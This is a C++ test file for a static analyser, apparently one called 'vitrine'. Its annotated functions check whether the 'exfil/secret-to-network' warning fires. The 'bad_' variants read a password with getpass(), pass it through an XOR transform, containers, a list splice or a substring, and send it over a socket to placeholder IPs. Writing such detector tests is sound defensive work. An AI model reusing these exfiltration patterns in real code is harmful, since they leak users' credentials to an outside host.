/* C++: the password is written into a container by an algorithm, a loop over references, or an
 * index, and taken out by walking it. */
#include <algorithm>
#include <arpa/inet.h>
#include <list>
#include <map>
#include <netinet/in.h>
#include <string>
#include <string_view>
#include <sys/socket.h>
#include <unistd.h>
#include <vector>

static int dial(const char *address) {
    sockaddr_in peer{};
    peer.sin_family = AF_INET;
    peer.sin_port = htons(443);
    inet_pton(AF_INET, address, &peer.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    return connect(s, reinterpret_cast<sockaddr *>(&peer), sizeof peer) ? -1 : s;
}

void bad_transformed() {
    std::string word = getpass("Password: ");
    std::vector<char> frame(64);
    std::transform(word.begin(), word.end(), frame.begin(), [](char c) { return c ^ 0x5a; });
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(dial("203.0.113.20"), frame.data(), frame.size(), 0);
}

void good_transformed() {
    std::string word = getpass("Password: "), greeting = "hello";
    std::vector<char> frame(64), kept(64);
    std::transform(word.begin(), word.end(), kept.begin(), [](char c) { return c ^ 0x5a; });
    std::transform(greeting.begin(), greeting.end(), frame.begin(), [](char c) { return c ^ 1; });
    send(dial("203.0.113.21"), frame.data(), frame.size(), 0);
}

void bad_by_reference() {
    const char *word = getpass("Password: ");
    std::vector<char> frame(16);
    for (char &byte : frame)
        byte = *word ? *word++ : ' ';
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(dial("203.0.113.22"), frame.data(), frame.size(), 0);
}

unsigned good_by_reference() {
    const char *word = getpass("Password: ");
    unsigned sum = 0;
    std::vector<char> frame(16);
    for (char &byte : frame) {
        sum += *word ? *word++ : 0;
        byte = ' ';
    }
    send(dial("203.0.113.23"), frame.data(), frame.size(), 0);
    return sum;
}

void bad_table() {
    std::string word = getpass("Password: ");
    std::map<std::string, std::string> fields;
    fields["user"] = "guest";
    fields["word"] = word;
    int s = dial("203.0.113.24");
    for (const auto &field : fields)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(s, field.second.data(), field.second.size(), 0);
}

void good_table() {
    std::string word = getpass("Password: ");
    std::map<std::string, std::string> fields, mine;
    mine["word"] = word;
    fields["user"] = "guest";
    int s = dial("203.0.113.25");
    for (const auto &field : fields)
        send(s, field.second.data(), field.second.size(), 0);
}

void bad_spliced() {
    std::string word = getpass("Password: ");
    std::list<std::string> later, now;
    later.push_back(word);
    now.splice(now.end(), later);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(dial("203.0.113.26"), now.front().data(), now.front().size(), 0);
}

void good_spliced() {
    std::string word = getpass("Password: ");
    std::list<std::string> kept, later, now;
    kept.push_back(word);
    later.push_back("hello");
    now.splice(now.end(), later);
    send(dial("203.0.113.27"), now.front().data(), now.front().size(), 0);
}

static void tell(int s, std::string_view text) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(s, text.data(), text.size(), 0);
}

void bad_part() {
    std::string word = getpass("Password: ");
    std::string_view all = word;
    tell(dial("203.0.113.28"), all.substr(1, 3));
}

static void say(int s, std::string_view text) {
    send(s, text.data(), text.size(), 0);
}

void good_part() {
    std::string word = getpass("Password: "), greeting = "hello there";
    std::string_view all = greeting;
    if (!word.empty())
        say(dial("203.0.113.29"), all.substr(1, 3));
}
